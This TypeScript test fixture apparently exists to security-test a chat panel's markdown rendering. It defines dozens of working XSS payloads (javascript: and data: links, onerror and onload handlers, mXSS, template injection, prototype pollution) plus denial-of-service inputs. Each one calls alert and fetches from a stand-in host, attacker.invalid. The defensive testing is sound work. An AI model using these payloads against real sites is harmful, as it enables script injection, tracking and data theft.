/**
 * Hostile payloads for the panel. Each one is placed in every spot the model or a tool can fill
 * (see `conversation.ts`). Anything that would run calls alert(), sets `window.__pwned` and
 * fetches from ATTACKER, so execution is caught by a dialog, the flag, a request or a CSP report.
 */
export const ATTACKER = "http://attacker.invalid";

export interface Payload {
  id: string;
  /** Markdown / text, as the model or a tool would send it. */
  text: string;
  /** A URL the payload is about, also used as the source of URL-bearing tool result blocks. */
  url?: string;
  /** A structured JSON value (built with JSON.parse so `__proto__` is an own key), used in tool input and Cypher rows. */
  value?: unknown;
  /** Raw JSON text replacing the default Cypher result. */
  cypherResult?: string;
  /** Extra content blocks for the tool result. */
  blocks?: unknown[];
}

/** The script every executable payload runs; no spaces, so it fits a markdown link destination. */
export const js = (tag: string): string => `alert('${tag}');window.__pwned=true;fetch('${ATTACKER}/${tag}')`;

const jsUrl = (tag: string): string => `javascript:${js(tag)}`;
const b64 = (s: string): string => btoa(s);
const svgScript = `<svg xmlns="http://www.w3.org/2000/svg" onload="${js("svg-b64")}"><script>${js("svg-b64-script")}</script></svg>`;
const PNG_1X1 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";

function giantTable(cols: number, rows: number): string {
  const line = (cells: string[]) => `| ${cells.join(" | ")} |`;
  const out = [line(Array.from({ length: cols }, (_, c) => `c${c}`)), line(Array.from({ length: cols }, () => "---"))];
  for (let r = 0; r < rows; r++) {
    out.push(
      line(
        Array.from({ length: cols }, (_, c) =>
          r === rows / 2 && c === cols / 2 ? `[x](${jsUrl("table-cell")})` : `${r}`,
        ),
      ),
    );
  }
  out.push(line(["<img src=x onerror=" + js("table-last") + ">", ...Array.from({ length: cols - 1 }, () => "z")]));
  return out.join("\n");
}

const nestedList = (depth: number): string =>
  Array.from(
    { length: depth },
    (_, i) => `${"  ".repeat(i)}- level ${i}${i === depth - 1 ? ` [deep](${jsUrl("deep-list")})` : ""}`,
  ).join("\n");

const protoJson =
  '{"__proto__":{"polluted":"yes","isAdmin":true},"constructor":{"prototype":{"polluted":"yes"}},"toString":"x"}';

export const PAYLOADS: Payload[] = [
  // Markdown links and images with dangerous schemes
  { id: "md-link-javascript", text: `[click me](${jsUrl("md-link")})`, url: jsUrl("md-link") },
  { id: "md-link-mixed-case", text: `[click](JaVaScRiPt:${js("mixed-case")})`, url: `JaVaScRiPt:${js("mixed-case")}` },
  { id: "md-link-entity", text: `[click](&#106;avascript:${js("entity")})`, url: `&#106;avascript:${js("entity")}` },
  { id: "md-link-hex-entities", text: `[click](&#x6A;&#x61;&#x76;&#x61;script:${js("hex-entity")})` },
  { id: "md-link-colon-entity", text: `[click](javascript&colon;${js("colon-entity")})` },
  {
    id: "md-link-tab",
    text: `[click](<java\tscript:${js("tab")}>) and [click](java&#9;script:${js("tab-entity")})`,
    url: `java\tscript:${js("tab")}`,
  },
  {
    id: "md-link-newline-entity",
    text: `[click](java&#10;script:${js("newline-entity")})`,
    url: `java\nscript:${js("newline")}`,
  },
  {
    id: "md-link-leading-space",
    text: `[click](<  javascript:${js("leading-space")}>)`,
    url: ` \u0001javascript:${js("leading-ctl")}`,
  },
  {
    id: "md-link-js-comment",
    text: `[click](javascript://%0a${js("js-comment")})`,
    url: `javascript://%0a${js("js-comment")}`,
  },
  {
    id: "md-link-data-html",
    text: `[click](data:text/html;base64,${b64(`<script>${js("data-html")}</script>`)})`,
    url: `data:text/html;base64,${b64(`<script>${js("data-html")}</script>`)}`,
  },
  {
    id: "md-link-data-html-plain",
    text: `[click](<data:text/html,%3Cscript%3E${js("data-plain")}%3C/script%3E>)`,
    url: `data:text/html,<script>${js("data-plain")}</script>`,
  },
  { id: "md-link-vbscript", text: "[click](vbscript:msgbox(1))", url: "vbscript:msgbox(1)" },
  { id: "md-link-file", text: "[passwd](file:///etc/passwd)", url: "file:///etc/passwd" },
  {
    id: "md-link-other-schemes",
    text: "[a](tel:123) [b](intent://x#Intent;scheme=javascript;end) [c](chrome://settings) [d](about:blank) [e](blob:http://x/y) [f](ms-msdt:/id) [g](ws://attacker.invalid/ws) [h](view-source:http://attacker.invalid)",
    url: "intent://x#Intent;scheme=javascript;end",
  },
  { id: "md-image-javascript", text: `![x](${jsUrl("md-image")})`, url: jsUrl("md-image") },
  {
    id: "md-image-tracking",
    text: `![pixel](${ATTACKER}/pixel.png) and ![titled](${ATTACKER}/titled.png "t")`,
    url: `${ATTACKER}/pixel.png`,
  },
  {
    id: "md-image-data-svg",
    text: `![svg](data:image/svg+xml;base64,${b64(svgScript)})`,
    url: `data:image/svg+xml;base64,${b64(svgScript)}`,
  },
  { id: "md-image-in-link", text: `[![img](${ATTACKER}/nested.png)](${jsUrl("image-in-link")})` },
  { id: "md-autolink-javascript", text: `<${jsUrl("autolink")}> and <JAVASCRIPT:${js("autolink-upper")}>` },
  {
    id: "md-autolinks-external",
    text: `www.attacker.invalid/gfm <${ATTACKER}/autolink> //attacker.invalid/relative [p](//attacker.invalid/proto-rel) [b](/\\attacker.invalid/backslash)`,
  },
  {
    id: "md-reference-link",
    text: `[click][evil] and [evil]\n\n[evil]: ${jsUrl("reference")}`,
    url: jsUrl("reference"),
  },
  { id: "md-reference-image", text: `![pixel][trk]\n\n[trk]: ${ATTACKER}/ref-pixel.png "tracking"` },
  {
    id: "md-link-title-breakout",
    text: `[x](https://example.com "title\\" onmouseover=\\"${js("title")}") [y](https://example.com 'a" onclick="${js("title2")}')`,
  },
  {
    id: "md-footnote",
    text: `Claim[^x].\n\n[^x]: See [source](${jsUrl("footnote")}) <img src=x onerror=${js("footnote-html")}>`,
  },
  {
    id: "md-mailto",
    text: `[mail](mailto:a@attacker.invalid?subject=hi&body=secret) [m2](MAILTO:javascript:${js("mailto")})`,
  },

  // Raw HTML
  { id: "html-script", text: `<script>${js("script")}</script>` },
  { id: "html-img-onerror", text: `<img src=x onerror="${js("img-onerror")}">` },
  { id: "html-svg-onload", text: `<svg onload="${js("svg-onload")}"><circle r="10" /></svg>` },
  {
    id: "html-iframe-srcdoc",
    text: `<iframe srcdoc="<script>parent.${js("srcdoc")}</script>"></iframe><iframe src="${ATTACKER}/frame"></iframe>`,
  },
  {
    id: "html-a-javascript",
    text: `<a href="javascript:${js("html-a")}">click</a> <a href=javascript:${js("html-a2")}>x</a>`,
  },
  {
    id: "html-form-action",
    text: `<form action="${ATTACKER}/steal"><input name=q autofocus onfocus="${js("form-focus")}"><button formaction="javascript:${js("formaction")}">go</button></form>`,
  },
  { id: "html-meta-refresh", text: `<meta http-equiv="refresh" content="0;url=${ATTACKER}/refresh">` },
  { id: "html-base-href", text: `<base href="${ATTACKER}/">\n\n[relative](next/page)` },
  {
    id: "html-style-tag",
    text: `<style>@import url(${ATTACKER}/import.css); body { background: url(${ATTACKER}/bg.png) }</style>`,
  },
  {
    id: "html-style-attr",
    text: `<div style="background:url(${ATTACKER}/style-attr.png);position:fixed;inset:0">overlay</div>`,
  },
  {
    id: "html-link-stylesheet",
    text: `<link rel=stylesheet href="${ATTACKER}/x.css"><link rel=prefetch href="${ATTACKER}/prefetch">`,
  },
  { id: "html-object-embed", text: `<object data="${ATTACKER}/x.swf"></object><embed src="${ATTACKER}/x.swf">` },
  {
    id: "html-event-handlers",
    text: `<details open ontoggle="${js("ontoggle")}"><summary>x</summary></details><body onload="${js("body")}"><input autofocus onfocus="${js("autofocus")}">`,
  },
  {
    id: "html-inline-in-text",
    text: `Hello <b onmouseover="${js("inline-b")}">bold</b> <img src="${ATTACKER}/inline.png"> world`,
  },
  {
    id: "html-comment-breakout",
    text: `<!-- --><script>${js("comment")}</script><!-- --!><img src=x onerror=${js("comment2")}>`,
  },
  { id: "html-mxss-math", text: `<math><mtext><table><mglyph><style><img src=x onerror="${js("mxss")}">` },
  { id: "html-mxss-noscript", text: `<noscript><p title="</noscript><img src=x onerror=${js("noscript")}>">` },
  {
    id: "html-media",
    text: `<video><source onerror="${js("video")}"></video><audio src=x onerror="${js("audio")}"></audio>`,
  },
  {
    id: "html-svg-use",
    text: `<svg><use href="${ATTACKER}/sprite.svg#x"/><a xlink:href="javascript:${js("svg-a")}"><text>t</text></a></svg>`,
  },
  {
    id: "html-dom-clobbering",
    text: `<img name="__pwned" id="__pwned"><form id="__pwned"></form><a id="__pwned" href="x">c</a>`,
  },
  {
    id: "html-entities",
    text: `&lt;script&gt;${js("entities")}&lt;/script&gt; &#60;img src=x onerror=${js("entities2")}&#62; &amp;lt;b&amp;gt;`,
  },
  {
    id: "html-in-code",
    text: "```html\n<script>" + js("fence") + "</script>\n```\n\n`<img src=x onerror=" + js("inline-code") + ">`",
  },
  {
    id: "html-in-table",
    text: `| a | b |\n|---|---|\n| <img src=x onerror=${js("table-html")}> | [x](${jsUrl("table-link")}) |`,
  },

  // Unicode tricks
  {
    id: "unicode-bidi",
    text: `Download [invoice\u202Efdp.exe](https://example.com/\u202Eevil) \u202Ereversed\u202C \u2066iso\u2069 \u200F\u200E`,
  },
  {
    id: "unicode-zero-width",
    text: `[x](jav\u200Bascript:${js("zwsp")}) [y](java\u00ADscript:${js("shy")}) \uFEFFbom \u200D\u2060`,
    url: `jav\u200Bascript:${js("zwsp")}`,
  },
  {
    id: "unicode-control",
    text: `nul\u0000 bell\u0007 esc\u001b[2J\u001b[31mred del\u007f lone\uD800 \uFFFE [x](\u0001javascript:${js("ctl")})`,
  },
  {
    id: "unicode-homoglyph",
    text: "[https://paypal.com](https://\u0440\u0430ypal.com) [xn](https://xn--pypal-4ve.com)",
  },
  { id: "unicode-zalgo", text: `Z${"\u0301\u0302\u0303".repeat(300)}algo` },

  // Size and nesting
  {
    id: "huge-line-1mb",
    text: `${"lorem ipsum dolor sit amet ".repeat(38_837)}<img src=x onerror=${js("huge-line")}> [x](${jsUrl("huge-line")})`,
  },
  { id: "big-table", text: giantTable(60, 150) },
  { id: "nested-lists", text: nestedList(200) },
  { id: "nested-blockquotes", text: `${"> ".repeat(200)}deep [x](${jsUrl("deep-quote")})` },
  // Past a few thousand levels these overflowed the stack while rendering and unmounted the host's React root.
  { id: "nested-list-items-2000", text: `${"- ".repeat(2_000)}deep items [x](${jsUrl("deep-items")})` },
  { id: "nested-quotes-4000", text: `${"> ".repeat(4_000)}deep quotes [x](${jsUrl("deep-quotes")})` },
  { id: "nested-mixed-containers", text: `${"> - 1. ".repeat(700)}deep mixed` },
  { id: "nested-emphasis-300", text: `${"*a ".repeat(300)}deep emphasis${" a*".repeat(300)}` },
  {
    id: "pathological-brackets",
    text: `${"[".repeat(10_000)}a${"]".repeat(10_000)}(${jsUrl("brackets")}) ${"[a](".repeat(5_000)}`,
  },
  {
    id: "pathological-emphasis",
    text: `${"*a **a ".repeat(10_000)} ${"_".repeat(20_000)} ${"`".repeat(10_000)} ${"<".repeat(10_000)}a`,
  },
  {
    id: "long-url",
    text: `[long](https://example.com/?q=${"a".repeat(100_000)}) [js](javascript:${"/".repeat(100_000)}${js("long-js")})`,
    url: `https://example.com/${"b".repeat(100_000)}`,
  },
  {
    id: "many-links",
    text: Array.from({ length: 3_000 }, (_, i) => `[l${i}](${i % 2 ? jsUrl("many") : `${ATTACKER}/${i}`})`).join(" "),
  },

  // JSON and template tricks
  {
    id: "proto-pollution",
    text: protoJson,
    value: JSON.parse(protoJson),
    cypherResult: `{"columns":["name","toString","constructor","__proto__","hasOwnProperty"],"rows":[{"name":"proto","__proto__":{"polluted":"yes"}}]}`,
  },
  {
    id: "react-element-json",
    text: '{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"alert(1)"}}}',
    value: JSON.parse(
      `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${js("react-json")}","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}`,
    ),
  },
  {
    id: "template-injection",
    text: `{{constructor.constructor('${js("template")}')()}} \${alert(1)} #{alert(1)} <%= alert(1) %> {{7*7}} \${7*7} [[7*7]]`,
  },
  {
    id: "css-injection-text",
    text: `@import url(${ATTACKER}/text-import.css); body{background:url(${ATTACKER}/text-bg.png)} expression(alert(1))`,
  },
  {
    id: "json-graph-node",
    text: "{}",
    cypherResult: JSON.stringify({
      columns: ["n"],
      rows: [
        [
          {
            elementId: `4:x:1"><img src=x onerror=${js("element-id")}>`,
            labels: [`<script>${js("label")}</script>`],
            properties: { name: `[x](${jsUrl("node-prop")})` },
          },
        ],
      ],
    }),
  },

  // Tool result media blocks
  {
    id: "tool-media-blocks",
    text: "media",
    blocks: [
      { type: "image", source: { type: "base64", media_type: "image/svg+xml", data: b64(svgScript) } },
      {
        type: "image",
        source: { type: "base64", media_type: "image/png", data: `${PNG_1X1}" onerror="${js("b64-attr")}` },
      },
      { type: "image", source: { type: "base64", media_type: "image/png", data: PNG_1X1 } },
      { type: "image", source: { type: "url", url: `${ATTACKER}/tool-image.png` } },
      { type: "document", source: { type: "url", url: jsUrl("document") }, title: "<script>x</script>" },
      {
        type: "document",
        source: { type: "base64", media_type: "text/html", data: b64(`<script>${js("doc-html")}</script>`) },
      },
    ],
  },
];

/**
 * Payloads that freeze the panel for minutes today (see the `it.fails` tests): kept out of
 * PAYLOADS so the security run finishes, and replayed alone against a time budget.
 */
export const FREEZE_PAYLOADS: Payload[] = [
  // Unbreakable: laid out with `overflow-wrap: anywhere` in the `system-ui` font, ~90 µs per character.
  { id: "huge-word-1mb", text: `${"A".repeat(1 << 20)}<img src=x onerror=${js("huge-word")}>` },
  // 100,000 cells, all rendered.
  { id: "giant-table-200x500", text: giantTable(200, 500) },
  // Quadratic in the markdown parser (micromark): 80 kB cost tens of seconds per parse.
  { id: "nested-brackets-80k", text: `${"[".repeat(40_000)}a${"]".repeat(40_000)}` },
];
